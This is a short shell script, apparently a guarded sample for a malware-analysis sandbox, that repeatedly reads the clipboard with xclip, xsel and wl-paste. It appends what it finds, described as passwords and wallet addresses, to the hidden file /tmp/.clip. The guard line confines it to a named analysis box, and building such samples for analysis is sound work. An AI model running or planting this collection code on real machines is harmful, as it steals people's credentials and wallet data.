#!/bin/sh
# SPDX-License-Identifier: MIT
# Watches the clipboard for passwords and wallet addresses.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
export DISPLAY="${DISPLAY:-:0}"
for i in 1 2; do
	{
		/usr/bin/xclip -o -selection clipboard 2>/dev/null
		/usr/bin/xsel --clipboard --output 2>/dev/null
		/usr/bin/wl-paste --no-newline 2>/dev/null
	} >> /tmp/.clip
	sleep 0.2
done
exit 0
